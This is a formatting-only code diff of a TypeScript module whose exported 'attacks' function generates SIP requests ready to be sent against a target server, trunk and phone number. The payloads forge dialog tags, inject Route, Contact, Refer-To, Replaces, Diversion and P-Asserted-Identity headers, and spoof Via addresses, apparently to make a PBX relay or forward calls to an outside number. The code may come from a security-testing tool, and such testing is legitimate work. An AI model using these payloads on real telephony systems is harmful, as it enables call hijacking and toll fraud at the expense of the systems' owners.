@@ -48,19 +48,41 @@ function shapes({ server, trunk, number, credentials }: Aim): Shape[] {
     { uri: `tel:+86${number}` },
     { uri: ours, to: `<${theirs}>` },
     { uri: ours, to: `<${ours}>;tag=forged` },
-    { uri: theirs, to: `<${theirs}>;tag=forged`, more: [`Contact: <${theirs}>`, `Record-Route: <sip:${trunk};lr>`] },
+    {
+      uri: theirs,
+      to: `<${theirs}>;tag=forged`,
+      more: [`Contact: <${theirs}>`, `Record-Route: <sip:${trunk};lr>`],
+    },
     { uri: theirs, more: [`Route: <sip:${server};lr>`, `Route: <sip:${trunk};lr>`] },
     { uri: ours, more: [`Route: <sip:${trunk};lr>`, `Contact: <${theirs}>`] },
     { uri: `sip:${server}`, more: [`Route: <${theirs};lr>, <sip:${trunk};lr>`] },
-    { uri: ours, more: [`Record-Route: <sip:${trunk};lr>`, `Contact: <${theirs}>`, `Path: <sip:${trunk};lr>`] },
-    { uri: ours, more: [`Refer-To: <${theirs}>`, `Referred-By: <sip:1001@${server}>`, 'Refer-Sub: false', `Contact: <${theirs}>`] },
+    {
+      uri: ours,
+      more: [`Record-Route: <sip:${trunk};lr>`, `Contact: <${theirs}>`, `Path: <sip:${trunk};lr>`],
+    },
+    {
+      uri: ours,
+      more: [
+        `Refer-To: <${theirs}>`,
+        `Referred-By: <sip:1001@${server}>`,
+        'Refer-Sub: false',
+        `Contact: <${theirs}>`,
+      ],
+    },
     { uri: ours, more: [`Refer-To: <${theirs}?Replaces=a%3Bto-tag%3Db%3Bfrom-tag%3Dc>`] },
     { uri: ours, more: ['Replaces: a;to-tag=b;from-tag=c', 'Require: replaces'] },
     { uri: ours, more: ['Event: refer', `Contact: <${theirs}>`, 'Expires: 3600'] },
     { uri: ours, more: [...sent, `Contact: <${theirs}>`] },
     { uri: theirs, more: [...sent, `Route: <sip:${trunk};lr>`] },
     { uri: `sip:1002@${server}`, more: [...sent, `Contact: <${theirs}>`, 'Expires: 3600'] },
-    { uri: ours, more: [`P-Asserted-Identity: <sip:1001@${server}>`, `Diversion: <${theirs}>`, `X-Forward-To: ${number}`] },
+    {
+      uri: ours,
+      more: [
+        `P-Asserted-Identity: <sip:1001@${server}>`,
+        `Diversion: <${theirs}>`,
+        `X-Forward-To: ${number}`,
+      ],
+    },
     { uri: ours, via: `UDP ${trunk}` },
     { uri: ours, via: `UDP ${server};maddr=${trunk.split(':')[0]};received=${trunk.split(':')[0]}` },
     { uri: ours, via: `UDP ${trunk}, SIP/2.0/UDP ${trunk}` },
@@ -71,6 +93,9 @@ function shapes({ server, trunk, number, credentials }: Aim): Shape[] {
 /** As texts, ready to be sent. */
 export function attacks(aim: Aim, via: string): { readonly method: string; readonly text: string }[] {
   return METHODS.flatMap(method =>
-    shapes(aim).map(shape => ({ method, text: requestText(method, shape.uri, shape.via ?? via, shape.more, shape.to) })),
+    shapes(aim).map(shape => ({
+      method,
+      text: requestText(method, shape.uri, shape.via ?? via, shape.more, shape.to),
+    })),
   )
 }
